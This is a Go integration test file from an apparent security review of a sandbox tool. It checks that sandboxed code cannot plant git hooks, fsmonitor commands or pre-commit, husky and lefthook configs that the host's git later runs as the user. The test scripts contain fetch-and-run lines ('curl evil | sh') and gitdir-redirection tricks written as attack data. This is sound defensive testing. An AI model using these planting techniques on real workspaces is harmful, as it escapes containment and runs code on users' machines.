package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// Review of git worktree layouts and hook-manager detection (outside
// review). Each test below failed against the binary reviewed (8eab426): the
// sandbox plants, in the writable workspace, something git on the host
// runs later as the user. Where git itself can show it, the test runs the
// host's git after the sandbox and checks that the planted program did
// not run.

// wtRequireGit skips without git.
func wtRequireGit(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
}

// wtGitEnv is the environment of git run on the host as the user: no
// system or global config of the machine's, a fixed identity.
var wtGitEnv = []string{"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}

// wtGit runs git as u in dir (setup: a failure is fatal).
func wtGit(t *testing.T, u user, dir string, args ...string) {
	t.Helper()
	if r := u.runAs(t, &runOpts{dir: dir, env: wtGitEnv}, "git", args...); r.code != 0 {
		t.Fatalf("git %v in %s: %s%s", args, dir, r.stdout, r.stderr)
	}
}

// wtHostGit is the user's later git command on the host, after the
// sandbox: its result is logged, not judged (what matters is whether it
// ran the sandbox's program).
func wtHostGit(t *testing.T, u user, dir string, args ...string) {
	t.Helper()
	r := u.runAs(t, &runOpts{dir: dir, env: wtGitEnv}, "git", args...)
	t.Logf("host git %v in %s: code %d stdout %q stderr %q", args, dir, r.code, r.stdout, r.stderr)
}

// wtExpectRefused checks the sandbox's script ran to its end ("done")
// and did not print token, which it prints when its write succeeded.
func wtExpectRefused(t *testing.T, r result, token, msg string) {
	t.Helper()
	expectCode(t, r, 0)
	if !strings.Contains(r.stdout, "done") {
		t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
	}
	if strings.Contains(r.stdout, token) {
		t.Errorf("%s", msg)
	}
}

// wtExpectHostGitClean runs the user's later git command in dir and
// checks it did not run the program the sandbox planted (marker).
func wtExpectHostGitClean(t *testing.T, u user, dir, marker, msg string, args ...string) {
	t.Helper()
	wtHostGit(t, u, dir, args...)
	if exists(marker) {
		t.Errorf("%s", msg)
	}
}

// wtRepo makes a repository of u's at dir with one commit (f).
func wtRepo(t *testing.T, u user, dir string) {
	t.Helper()
	u.mkdirs(t, dir)
	wtGit(t, u, dir, "init", "-q", "-b", "main")
	u.writeFile(t, filepath.Join(dir, "f"), "x\n", 0o644)
	wtGit(t, u, dir, "add", "f")
	wtGit(t, u, dir, "commit", "-q", "-m", "init")
}

// wtHook is a hook script that records that it ran in marker.
func wtHook(marker string) string {
	return "#!/bin/sh\necho ran > '" + marker + "'\n"
}

// HIGH. The workspace is a linked worktree (`git worktree add ../ws`)
// whose main repository lies outside the workspace: ws/.git is a file
// "gitdir: /elsewhere/main/.git/worktrees/ws". The main repository's
// config (shared by all its worktrees) says core.hooksPath = .githooks,
// which git takes relative to the top of the worktree it runs in: here
// ws/.githooks, inside the writable workspace. nsbox only reads what a
// .git file points to when that lies in a writable directory, so the main
// config is never read and ws/.githooks is left writable (and creatable).
// Attack: the sandbox creates ws/.githooks/pre-commit. Host consequence:
// the user's next `git commit` in the worktree runs it as the user.
func TestReviewWorktreeWorkspaceMainHooksPath(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		main, ws, marker := filepath.Join(base, "main"), filepath.Join(base, "ws"), filepath.Join(base, "hook-ran")
		wtRepo(t, u, main)
		wtGit(t, u, main, "config", "core.hooksPath", ".githooks")
		wtGit(t, u, main, "worktree", "add", "-q", "-b", "feat", ws)
		r := u.sh(t, &runOpts{dir: ws}, []string{"--env", "HOOK=" + wtHook(marker)}, `
(mkdir -p .githooks && printf '%s' "$HOOK" > .githooks/pre-commit && chmod +x .githooks/pre-commit) 2>/dev/null && echo HOOK-PLANTED
echo done`)
		wtExpectRefused(t, r, "HOOK-PLANTED", "the sandbox created .githooks/pre-commit, the hooks directory the main repository's config (outside the workspace) names for this worktree")
		u.writeFile(t, filepath.Join(ws, "f"), "y\n", 0o644)
		wtExpectHostGitClean(t, u, ws, marker, "the host's git commit in the worktree ran the hook the sandbox planted", "commit", "-q", "-a", "-m", "after the sandbox")
	})
}

// MEDIUM. Same layout (the workspace is a linked worktree of a repository
// outside it), with extensions.worktreeConfig = true and the worktree's
// own config (main/.git/worktrees/ws/config.worktree, written by
// `git config --worktree`) naming core.fsmonitor = ./tools/fsmon, a
// program in the work tree. That config is outside the workspace and
// never read, so tools/fsmon is not protected. Attack: the sandbox writes
// tools/fsmon. Host consequence: the user's next `git status` in the
// worktree runs it.
func TestReviewWorktreeWorkspaceConfigWorktreeFsmonitor(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		main, ws, marker := filepath.Join(base, "main"), filepath.Join(base, "ws"), filepath.Join(base, "fsmonitor-ran")
		wtRepo(t, u, main)
		wtGit(t, u, main, "config", "extensions.worktreeConfig", "true")
		wtGit(t, u, main, "worktree", "add", "-q", "-b", "feat", ws)
		wtGit(t, u, ws, "config", "--worktree", "core.fsmonitor", "./tools/fsmon")
		r := u.sh(t, &runOpts{dir: ws}, []string{"--env", "HOOK=" + wtHook(marker)}, `
(mkdir -p tools && printf '%s' "$HOOK" > tools/fsmon && chmod +x tools/fsmon) 2>/dev/null && echo FSMONITOR-PLANTED
echo done`)
		wtExpectRefused(t, r, "FSMONITOR-PLANTED", "the sandbox created tools/fsmon, the core.fsmonitor the worktree's config.worktree (outside the workspace) names")
		wtExpectHostGitClean(t, u, ws, marker, "the host's git status in the worktree ran the fsmonitor the sandbox planted", "status", "--porcelain")
	})
}

// HIGH. The workspace is a linked worktree of a repository outside it
// that uses pre-commit: its hook (in the main repository's .git/hooks,
// shared by every worktree) runs what .pre-commit-config.yaml at the top
// of the worktree git runs in lists, and a "repo: local" entry runs any
// command. The hooks are outside the workspace and never read, so the
// worktree's .pre-commit-config.yaml is left writable (in a workspace that
// holds its .git it is read-only: TestWorkspaceGitHookManagers). Attack:
// the sandbox adds a "repo: local" hook with entry "curl evil | sh".
// Host consequence: the user's next `git commit` in the worktree runs it.
func TestReviewWorktreeWorkspacePreCommitConfig(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		main, ws := filepath.Join(base, "main"), filepath.Join(base, "ws")
		wtRepo(t, u, main)
		u.writeFile(t, filepath.Join(main, ".pre-commit-config.yaml"), "repos: []\n", 0o644)
		wtGit(t, u, main, "add", ".pre-commit-config.yaml")
		wtGit(t, u, main, "commit", "-q", "-m", "pre-commit")
		u.writeFile(t, filepath.Join(main, ".git", "hooks", "pre-commit"), "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\n"+
			"ARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\n", 0o755)
		wtGit(t, u, main, "worktree", "add", "-q", "-b", "feat", ws)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(printf 'repos:\n- repo: local\n  hooks:\n  - {id: x, name: x, entry: "sh -c \"curl evil | sh\"", language: system}\n' > .pre-commit-config.yaml) 2>/dev/null && echo PRECOMMIT-WRITTEN
echo x > notes.txt && echo rest-ok`)
		expectCode(t, r, 0)
		if !strings.Contains(r.stdout, "rest-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if strings.Contains(r.stdout, "PRECOMMIT-WRITTEN") {
			t.Errorf("the sandbox rewrote .pre-commit-config.yaml, which the pre-commit hook of the worktree's main repository (outside the workspace) runs")
		}
	})
}

// HIGH. The workspace is a package of a monorepo (repo/frontend), whose
// repository's .git lies above the workspace, outside it. husky installed
// from the package (`husky frontend/.husky`, as husky's docs say for a
// project in a subdirectory) sets core.hooksPath = frontend/.husky/_ in
// the repository's config: the hooks directory and the .husky/HOOK
// scripts its stubs run are inside the workspace, and the config that
// names them is never read (it is not in a writable directory), so both
// stay writable. Attack: the sandbox appends a command to
// frontend/.husky/pre-commit (or writes a new stub into .husky/_).
// Host consequence: the user's next `git commit` in the repository runs
// it.
func TestReviewWorkspaceBelowRepoHuskyHooksPath(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		repo, marker := filepath.Join(base, "repo"), filepath.Join(base, "hook-ran")
		ws := filepath.Join(repo, "frontend")
		wtRepo(t, u, repo)
		u.mkdirs(t, filepath.Join(ws, ".husky", "_"))
		u.writeFile(t, filepath.Join(ws, ".husky", "_", "h"), "#!/usr/bin/env sh\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n[ -f \"$s\" ] || exit 0\nsh -e \"$s\" \"$@\"\n", 0o755)
		u.writeFile(t, filepath.Join(ws, ".husky", "_", "pre-commit"), "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n", 0o755)
		u.writeFile(t, filepath.Join(ws, ".husky", "pre-commit"), "true\n", 0o644)
		wtGit(t, u, repo, "config", "core.hooksPath", "frontend/.husky/_")
		r := u.sh(t, &runOpts{dir: ws}, []string{"--env", "M=" + marker}, `
(echo "echo ran > '$M'" >> .husky/pre-commit) 2>/dev/null && echo HUSKY-WRITTEN
(echo 'curl evil | sh' > .husky/_/pre-push) 2>/dev/null && echo HUSKY-STUB-CREATED
echo x > notes.txt && echo rest-ok`)
		expectCode(t, r, 0)
		if !strings.Contains(r.stdout, "rest-ok") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if strings.Contains(r.stdout, "HUSKY-WRITTEN") || strings.Contains(r.stdout, "HUSKY-STUB-CREATED") {
			t.Errorf("the sandbox changed the husky hooks that the repository above the workspace runs: %q", r.stdout)
		}
		u.writeFile(t, filepath.Join(repo, "f"), "y\n", 0o644)
		wtExpectHostGitClean(t, u, repo, marker, "the host's git commit ran the husky hook the sandbox changed", "commit", "-q", "-a", "-m", "after the sandbox")
	})
}

// MEDIUM. The workspace holds the main repository; its linked worktree is
// outside it (`git worktree add ../wt`), with extensions.worktreeConfig =
// true and the worktree's config (ws/.git/worktrees/wt/config.worktree,
// read-only inside as all of .git is) including a file of the workspace:
// include.path = ../../../wt-local.gitconfig (relative to the
// config.worktree, so ws/wt-local.gitconfig). nsbox reads the main
// .git/config and .git/config.worktree for what they point to, never
// .git/worktrees/*/config.worktree, so the included file stays writable.
// Attack: the sandbox appends core.fsmonitor = "<command>" to
// wt-local.gitconfig. Host consequence: the user's next `git status` in
// the outside worktree runs it.
func TestReviewWorktreeOutsideConfigWorktreeInclude(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		ws, wt, marker := filepath.Join(base, "ws"), filepath.Join(base, "wt"), filepath.Join(base, "fsmonitor-ran")
		wtRepo(t, u, ws)
		wtGit(t, u, ws, "config", "extensions.worktreeConfig", "true")
		wtGit(t, u, ws, "worktree", "add", "-q", "-b", "feat", wt)
		wtGit(t, u, wt, "config", "--worktree", "include.path", "../../../wt-local.gitconfig")
		u.writeFile(t, filepath.Join(ws, "wt-local.gitconfig"), "[alias]\n\tst = status\n", 0o644)
		r := u.sh(t, &runOpts{dir: ws}, []string{"--env", "M=" + marker}, `
(printf '[core]\n\tfsmonitor = "echo ran > %s; false"\n' "$M" >> wt-local.gitconfig) 2>/dev/null && echo INCLUDE-WRITTEN
echo done`)
		wtExpectRefused(t, r, "INCLUDE-WRITTEN", "the sandbox changed wt-local.gitconfig, which .git/worktrees/wt/config.worktree includes")
		wtExpectHostGitClean(t, u, wt, marker, "the host's git status in the linked worktree ran the fsmonitor the sandbox planted", "status", "--porcelain")
	})
}

// LOW. The workspace holds the main repository and a linked worktree of
// it in a directory the "**/.git" walk skips (ws/.cache/wt; the same for
// target/, node_modules/, .venv/ ...). The walk does not find the
// worktree's .git file, so it is writable, and the git audit (same walk)
// does not look there either; the main repository's
// .git/worktrees/wt/gitdir names the file, but is not consulted. Attack:
// the sandbox makes a git directory ws/.cache/evil with a core.fsmonitor
// of its own (also in a skipped directory, so not quarantined) and
// rewrites ws/.cache/wt/.git to "gitdir: <ws>/.cache/evil". Host
// consequence: the user's next `git status` in that worktree runs it.
func TestReviewWorktreeInSkippedDir(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		ws, marker := filepath.Join(base, "ws"), filepath.Join(base, "fsmonitor-ran")
		wt := filepath.Join(ws, ".cache", "wt")
		wtRepo(t, u, ws)
		u.mkdirs(t, filepath.Join(ws, ".cache"))
		wtGit(t, u, ws, "worktree", "add", "-q", "-b", "feat", wt)
		r := u.sh(t, &runOpts{dir: ws}, []string{"--env", "M=" + marker}, `
evil=$PWD/.cache/evil
mkdir -p "$evil/objects" "$evil/refs" && echo 'ref: refs/heads/main' > "$evil/HEAD" &&
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "echo ran > %s; false"\n' "$M" > "$evil/config"
(echo "gitdir: $evil" > .cache/wt/.git) 2>/dev/null && echo GITFILE-WRITTEN
echo done`)
		wtExpectRefused(t, r, "GITFILE-WRITTEN", "the sandbox rewrote .cache/wt/.git, the .git file of a linked worktree the main repository records")
		if b, _ := os.ReadFile(filepath.Join(wt, ".git")); strings.Contains(string(b), "evil") {
			t.Errorf("after the run .cache/wt/.git still points to the sandbox's git directory: %q", b)
		}
		wtExpectHostGitClean(t, u, wt, marker, "the host's git status in the worktree ran the fsmonitor the sandbox planted", "status", "--porcelain")
	})
}

// LOW (was documented as partial in docs/profiles.md). A repository whose
// hooks lefthook installed, with a lefthook.yml: lefthook also reads
// lefthook-local.yml and merges it over lefthook.yml (its commands run
// like the project's). It does not exist, so nothing holds its place.
// Attack: the sandbox creates lefthook-local.yml with a pre-commit
// command. Host consequence: the user's next `git commit` runs it.
func TestReviewLefthookLocalConfigCreated(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		lefthookRepo(t, u, ws)
		u.writeFile(t, filepath.Join(ws, "lefthook.yml"), "pre-commit:\n  commands: {}\n", 0o644)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' > lefthook-local.yml) 2>/dev/null && echo LEFTHOOK-LOCAL-CREATED
(echo x >> lefthook.yml) 2>/dev/null && echo LEFTHOOK-WRITTEN
echo x > main.go && echo rest-ok`)
		expectCode(t, r, 0)
		if !strings.Contains(r.stdout, "rest-ok") || strings.Contains(r.stdout, "LEFTHOOK-WRITTEN") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if strings.Contains(r.stdout, "LEFTHOOK-LOCAL-CREATED") || exists(filepath.Join(ws, "lefthook-local.yml")) {
			t.Errorf("the sandbox created lefthook-local.yml, which lefthook merges into the config its hooks run")
		}
	})
}

// LOW (was documented as partial in docs/profiles.md). lefthook.yml (read-only
// inside) says extends: [ci/lefthook-common.yml]; lefthook merges that
// file's commands in, but nsbox does not follow extends, so it stays
// writable. Attack: the sandbox adds a pre-commit command to
// ci/lefthook-common.yml. Host consequence: the user's next `git commit`
// runs it.
func TestReviewLefthookExtendsWritable(t *testing.T) {
	eachUser(t, func(t *testing.T, u user) {
		ws := filepath.Join(u.visibleDir(t), "proj")
		u.mkdirs(t, filepath.Join(ws, ".git", "hooks"), filepath.Join(ws, "ci"))
		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
		u.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncall_lefthook run \"pre-commit\" \"$@\"\n", 0o755)
		u.writeFile(t, filepath.Join(ws, "lefthook.yml"), "extends:\n  - ci/lefthook-common.yml\npre-commit:\n  commands: {}\n", 0o644)
		u.writeFile(t, filepath.Join(ws, "ci", "lefthook-common.yml"), "pre-push:\n  commands: {}\n", 0o644)
		r := u.sh(t, &runOpts{dir: ws}, nil, `
(printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' >> ci/lefthook-common.yml) 2>/dev/null && echo EXTENDS-WRITTEN
(echo x >> lefthook.yml) 2>/dev/null && echo LEFTHOOK-WRITTEN
echo x > ci/notes.txt && echo rest-ok`)
		expectCode(t, r, 0)
		if !strings.Contains(r.stdout, "rest-ok") || strings.Contains(r.stdout, "LEFTHOOK-WRITTEN") {
			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
		}
		if strings.Contains(r.stdout, "EXTENDS-WRITTEN") {
			t.Errorf("the sandbox changed ci/lefthook-common.yml, which lefthook.yml extends")
		}
	})
}

// The workspace is a package of a repository whose .git, above the
// workspace, is a symlink to its git directory elsewhere (git follows
// it); that config's core.hooksPath names pkg/.githooks, in the
// workspace. Attack: the sandbox creates pkg/.githooks/pre-commit. Host
// consequence: the user's next `git commit` runs it.
func TestWorkspaceBelowRepoGitSymlinkHooksPath(t *testing.T) {
	wtRequireGit(t)
	eachUser(t, func(t *testing.T, u user) {
		base := u.visibleDir(t)
		repo, marker := filepath.Join(base, "mono"), filepath.Join(base, "hook-ran")
		ws := filepath.Join(repo, "pkg")
		wtRepo(t, u, repo)
		if r := u.runAs(t, &runOpts{dir: base}, "sh", "-c", "mv mono/.git realgit && ln -s ../realgit mono/.git"); r.code != 0 {
			t.Fatalf("move the git directory: %s%s", r.stdout, r.stderr)
		}
		u.mkdirs(t, ws)
		wtGit(t, u, repo, "config", "core.hooksPath", "pkg/.githooks")
		r := u.sh(t, &runOpts{dir: ws}, []string{"--env", "HOOK=" + wtHook(marker)}, `
(mkdir -p .githooks && printf '%s' "$HOOK" > .githooks/pre-commit && chmod +x .githooks/pre-commit) 2>/dev/null && echo HOOK-PLANTED
echo done`)
		wtExpectRefused(t, r, "HOOK-PLANTED", "the sandbox created pkg/.githooks/pre-commit, the hooks directory of the repository whose .git symlink is above the workspace")
		u.writeFile(t, filepath.Join(repo, "f"), "y\n", 0o644)
		wtExpectHostGitClean(t, u, repo, marker, "the host's git commit ran the hook the sandbox planted", "commit", "-q", "-a", "-m", "after the sandbox")
	})
}
